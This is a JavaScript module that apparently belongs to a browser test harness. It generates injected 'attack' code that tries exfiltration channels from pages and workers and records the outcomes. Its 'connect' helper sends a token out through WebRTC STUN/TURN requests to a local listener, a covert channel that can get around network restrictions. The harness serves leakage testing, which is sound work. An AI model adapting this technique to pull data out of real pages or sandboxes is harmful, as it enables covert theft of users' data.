// Makes the text that runs inside: helpers, the channels' attempts, and what starts them.

/** What every attempt may use. Also inside the attack's text, so no imports. */
const HELPERS = {
  quiet: (promise) => void Promise.resolve(promise).catch(() => {}),
  /** Does all; throws only if none could be done. */
  all(...steps) {
    let done = 0;
    let problem;
    for (const step of steps) {
      try {
        step();
        done++;
      } catch (error) {
        problem = error;
      }
    }
    if (done === 0) throw problem;
  },
  add(name, properties) {
    const element = Object.assign(document.createElement(name), properties);
    document.body.append(element);
    return element;
  },
  /** WebRTC needs no partner to send packets: asking a STUN or TURN server for its address is enough. */
  connect(Connection, to) {
    const connection = new Connection({
      iceServers: [
        { urls: `stun:127.0.0.1:${to.udp}` },
        { urls: `turn:127.0.0.1:${to.tcp}?transport=tcp`, username: to.token, credential: to.token },
      ],
    });
    (globalThis.connections ??= []).push(connection); // or it may be collected before it has sent anything
    connection.createDataChannel(to.token);
    connection.setLocalDescription().catch(() => {});
  },
};

/** The text of a function expression, whichever way it was written as a property. */
const expression = (f) => String(f).replace(/^\w+\(/, "function (");

/**
 * The text of a function that makes attempts, each {name, run, to}, and returns what became of each by token: "tried"
 * or the error.
 */
export function attackText(attempts) {
  const helpers = Object.entries(HELPERS).map(([name, f]) => `const ${name} = ${expression(f)};`);
  const tries = attempts.map(({ run, to }) => `attempt(${JSON.stringify(to)}, ${expression(run)});`);
  return `() => {
    ${helpers.join("\n")}
    const outcomes = {};
    const attempt = (to, run) => {
      try {
        run(to);
        outcomes[to.token] = "tried";
      } catch (error) {
        outcomes[to.token] = String(error);
      }
    };
    ${tries.join("\n")}
    return outcomes;
  }`;
}

/** The same, to be made when the driver has long had its answer: the document may not survive them. */
export const laterText = (attempts) => `() => void setTimeout(${attackText(attempts)}, 300)`;

/** The same, on the next click on a button made for it; the outcomes are then in globalThis.clicked. */
export const clickText = (attempts) => `() => {
  const button = document.createElement("button");
  button.textContent = "attack";
  document.body.prepend(button);
  button.addEventListener("click", () => (globalThis.clicked = (${attackText(attempts)})()));
}`;

/**
 * The text to put before a worker's own: after the first message of that type, when the worker's script has long run,
 * it makes the attempts one by one and posts what became of each as {exfiltration}. Those that start workers of their
 * own come last and apart: Firefox sometimes hangs when a worker starts one while it waits for something else. With
 * `hold` the worker itself gets the message only after that, for one that is ended when it has done its work.
 */
export function workerText(attempts, { type, hold = false }) {
  let at = 0;
  const ordered = [...attempts].sort((a, b) => !!a.channel.nested - !!b.channel.nested);
  const tasks = ordered.map((attempt) => {
    at += attempt.channel.nested ? 500 : 10;
    return `setTimeout(() => postMessage({ exfiltration: (${attackText([attempt])})() }), ${at});`;
  });
  const held = `
    event.stopImmediatePropagation();
    setTimeout(() => dispatchEvent(new MessageEvent("message", { data: event.data })), ${at + 1000});`;
  return `addEventListener("message", function attack(event) {
    if (event.data.type !== ${JSON.stringify(type)}) return;
    removeEventListener("message", attack);${hold ? held : ""}
    ${tasks.join("\n")}
  });\n`;
}
